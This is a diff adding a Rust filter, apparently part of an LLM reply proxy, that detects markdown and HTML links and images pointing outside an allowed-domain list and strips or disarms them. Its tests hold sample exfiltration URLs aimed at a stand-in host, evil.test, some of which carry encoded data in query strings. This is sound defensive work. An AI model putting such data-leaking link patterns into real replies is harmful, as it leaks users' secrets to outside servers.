@@ -0,0 +1,239 @@
+use crate::filters::{Filter, Finding};
+use regex::{Captures, Regex};
+use reqwest::Url;
+use serde::Deserialize;
+use std::sync::LazyLock;
+
+/// `<` and `>`, also in the JSON-escaped form Ollama writes them in.
+const LT: &str = r"(?:<|\\u003[cC])";
+const GT: &str = r"(?:>|\\u003[eE])";
+/// An optional attribute quote, also JSON-escaped (`\"`).
+const QUOTE: &str = r#"(?:\\?["'])?"#;
+/// A link destination. Backslashes only as the `&` and `\/` escapes of a
+/// JSON string, so a match never runs past the end of an escaped attribute.
+const URL: &str = r#"(?P<url>(?:[^\s"'<>()\[\]\\]|\\u0026|\\/)+)"#;
+/// An optional markdown link title.
+const TITLE: &str = r#"(?:[ \t]+(?:\\?"[^"\n]*\\?"|'[^'\n]*'))?"#;
+
+/// What happens to a link or image pointing outside the allowlist.
+#[derive(Clone, Copy, Debug, Default, Deserialize, PartialEq)]
+#[serde(rename_all = "snake_case")]
+pub enum LinkAction {
+    /// Remove images; links are reduced to their text.
+    Strip,
+    /// Keep the link but drop its query string and fragment.
+    StripQuery,
+    /// Replace with a note such as `[blocked image: evil.example]`.
+    #[default]
+    Inert,
+}
+
+/// Per-profile settings of the `links` filter.
+///
+/// ```json
+/// { "links": { "allowed_domains": ["example.com"], "action": "strip" } }
+/// ```
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(default)]
+pub struct LinkPolicy {
+    /// Domains links may point to, including their subdomains.
+    pub allowed_domains: Vec<String>,
+    pub action: LinkAction,
+}
+
+/// One kind of markdown or HTML link. The `link` group, if present, is the
+/// construct itself, without the context the regex needs around it.
+struct Construct {
+    kind: &'static str,
+    regex: Regex,
+    /// Whether the construct has prose (`label`) worth keeping when the link goes.
+    keeps_label: bool,
+}
+
+/// In priority order: an HTML link wins over the images inside it, which are
+/// then handled as part of its text.
+static CONSTRUCTS: LazyLock<Vec<Construct>> = LazyLock::new(|| {
+    let construct = |kind, regex: String, keeps_label| Construct { kind, regex: Regex::new(&regex).unwrap(), keeps_label };
+    vec![
+        construct("html_link", format!(r"(?is){LT}a\b[^<>]*?\bhref\s*=\s*{QUOTE}{URL}[^<>]*?{GT}(?P<label>.*?){LT}/a\s*{GT}"), true),
+        construct("html_image", format!(r"(?i){LT}img\b[^<>]*?\bsrc\s*=\s*{QUOTE}{URL}[^<>]*?{GT}"), false),
+        construct("markdown_reference", format!(r"(?m)(?:^|\\n) {{0,3}}(?P<link>\[(?P<label>[^\[\]\n]+)\]:[ \t]*<?{URL}>?{TITLE})"), false),
+        construct("markdown_image", format!(r"!\[(?P<label>[^\[\]]*)\]\(\s*<?{URL}>?{TITLE}\s*\)"), false),
+        construct("markdown_link", format!(r"(?:^|[^!])(?P<link>\[(?P<label>[^\[\]]*)\]\(\s*<?{URL}>?{TITLE}\s*\))"), true),
+        construct("autolink", format!(r"{LT}{URL}{GT}"), false),
+    ]
+});
+
+/// Every kind the filter reports.
+pub fn detector_kinds() -> Vec<&'static str> {
+    CONSTRUCTS.iter().map(|c| c.kind).collect()
+}
+
+/// Host of an absolute URL, or `None` for relative and host-less ones
+/// (`/docs`, `data:`, `mailto:`), which cannot reach another server on their own.
+fn host(url: &str) -> Option<String> {
+    let url = url.replace("\\/", "/").replace("\\u0026", "&");
+    let url = match url.starts_with("//") {
+        true => format!("https:{}", url),
+        false => url,
+    };
+    Url::parse(&url).ok()?.host_str().map(|h| h.to_ascii_lowercase())
+}
+
+/// Neutralizes markdown and HTML links and images that point outside an
+/// allowlist of domains, so a reply cannot leak data through a URL the
+/// client fetches or the user clicks.
+pub struct LinkFilter {
+    allowed_domains: Vec<String>,
+    action: LinkAction,
+    constructs: Vec<&'static Construct>,
+}
+
+impl LinkFilter {
+    /// `disabled` may hold kinds of other filters; they are ignored.
+    pub fn new(policy: &LinkPolicy, disabled: &[String]) -> Self {
+        Self {
+            allowed_domains: policy.allowed_domains.iter()
+                .map(|d| d.trim_start_matches("*.").trim_start_matches('.').to_ascii_lowercase())
+                .collect(),
+            action: policy.action,
+            constructs: CONSTRUCTS.iter().filter(|c| !disabled.iter().any(|d| d == c.kind)).collect(),
+        }
+    }
+
+    fn is_allowed(&self, host: &str) -> bool {
+        self.allowed_domains.iter().any(|d| host == d || host.strip_suffix(d.as_str()).is_some_and(|sub| sub.ends_with('.')))
+    }
+
+    /// The host of a link to be neutralized, if `caps` is one.
+    fn external_host(&self, caps: &Captures) -> Option<String> {
+        host(&caps["url"]).filter(|h| !self.is_allowed(h))
+    }
+}
+
+impl Filter for LinkFilter {
+    fn name(&self) -> &str {
+        "links"
+    }
+
+    fn scan(&self, input: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        for construct in &self.constructs {
+            for caps in construct.regex.captures_iter(input) {
+                if self.external_host(&caps).is_none() {
+                    continue;
+                }
+                let url = caps.name("url").unwrap();
+                let (start, end) = match self.action {
+                    LinkAction::StripQuery => match url.as_str().find(['?', '#']) {
+                        Some(query) => (url.start() + query, url.end()),
+                        None => continue,
+                    },
+                    _ => {
+                        let link = caps.name("link").unwrap_or_else(|| caps.get(0).unwrap());
+                        (link.start(), link.end())
+                    }
+                };
+                findings.push(Finding { filter: "links".to_string(), kind: construct.kind.to_string(), start, end, confidence: 1.0 });
+            }
+        }
+        findings
+    }
+
+    fn placeholder(&self, finding: &Finding, value: &str) -> String {
+        self.enclosing_placeholder(finding, value, &mut |label| self.apply(label).text)
+    }
+
+    /// Links are disarmed, not hidden.
+    fn redacts(&self, _finding: &Finding) -> bool {
+        false
+    }
+
+    /// The URL goes away, so findings inside it do too; the label is kept
+    /// and redacted.
+    fn encloses(&self, _finding: &Finding) -> bool {
+        true
+    }
+
+    fn enclosing_placeholder(&self, finding: &Finding, value: &str, redact: &mut dyn FnMut(&str) -> String) -> String {
+        let construct = self.constructs.iter().find(|c| c.kind == finding.kind);
+        let caps = construct.and_then(|c| c.regex.captures(value));
+        let host = caps.as_ref().and_then(|caps| self.external_host(caps)).unwrap_or_default();
+        // Only the host is logged: the rest of the URL may be the leaked data.
+        match self.action {
+            LinkAction::StripQuery => {
+                println!("!!! LINK FILTER: stripped query string of {}", finding.kind);
+                return String::new();
+            }
+            LinkAction::Strip => println!("!!! LINK FILTER: removed {} to {}", finding.kind, host),
+            LinkAction::Inert => println!("!!! LINK FILTER: disarmed {} to {}", finding.kind, host),
+        }
+
+        // A link's text may itself hold images, secrets or PII.
+        let label = match (construct, &caps) {
+            (Some(c), Some(caps)) if c.keeps_label => caps.name("label").map(|l| redact(l.as_str())).unwrap_or_default(),
+            _ => String::new(),
+        };
+        let what = if finding.kind.ends_with("image") { "image" } else { "link" };
+        match (self.action, label.trim().is_empty()) {
+            (LinkAction::Strip, _) => label,
+            (_, true) => format!("[blocked {}: {}]", what, host),
+            (_, false) => format!("{} [blocked {}: {}]", label, what, host),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn filter(action: LinkAction) -> LinkFilter {
+        let policy = LinkPolicy { allowed_domains: vec!["example.com".to_string()], action };
+        LinkFilter::new(&policy, &[])
+    }
+
+    #[test]
+    fn test_actions() {
+        let input = "See ![chart](https://evil.test/c.png?d=c2VjcmV0) and [docs](https://evil.test/d#top), or [home](https://docs.example.com/?q=1).";
+
+        assert_eq!(
+            filter(LinkAction::Inert).apply(input).text,
+            "See [blocked image: evil.test] and docs [blocked link: evil.test], or [home](https://docs.example.com/?q=1)."
+        );
+        assert_eq!(
+            filter(LinkAction::Strip).apply(input).text,
+            "See  and docs, or [home](https://docs.example.com/?q=1)."
+        );
+        assert_eq!(
+            filter(LinkAction::StripQuery).apply(input).text,
+            "See ![chart](https://evil.test/c.png) and [docs](https://evil.test/d), or [home](https://docs.example.com/?q=1)."
+        );
+    }
+
+    #[test]
+    fn test_html_and_reference_links() {
+        let filter = filter(LinkAction::Inert);
+        let input = "<a href=\"https://evil.test/x\">Click <img src='//cdn.evil.test/p.gif?s=1'></a>\n[ref]: https://evil.test/r \"Title\"\n<https://evil.test/a> <img src=\"/local.png\">";
+        assert_eq!(
+            filter.apply(input).text,
+            "Click [blocked image: cdn.evil.test] [blocked link: evil.test]\n[blocked link: evil.test]\n[blocked link: evil.test] <img src=\"/local.png\">"
+        );
+    }
+
+    #[test]
+    fn test_json_escaped_html() {
+        // Ollama escapes `<`, `>` and `&` inside its JSON bodies.
+        let body = r#"{"content":"\u003cimg src=\"https://evil.test/p?a=1\u0026b=2\"\u003e done"}"#;
+        let redacted = filter(LinkAction::StripQuery).apply(body).text;
+        assert_eq!(redacted, r#"{"content":"\u003cimg src=\"https://evil.test/p\"\u003e done"}"#);
+        assert!(serde_json::from_str::<serde_json::Value>(&redacted).is_ok());
+    }
+
+    #[test]
+    fn test_allowlist_matches_subdomains_only() {
+        let filter = filter(LinkAction::Inert);
+        assert!(filter.is_allowed("example.com") && filter.is_allowed("img.example.com"));
+        assert!(!filter.is_allowed("badexample.com") && !filter.is_allowed("example.com.evil.test"));
+        assert!(filter.scan("[a](/relative) [b](mailto:x@y.z) ![c](data:image/png;base64,AAAA)").is_empty());
+    }
+}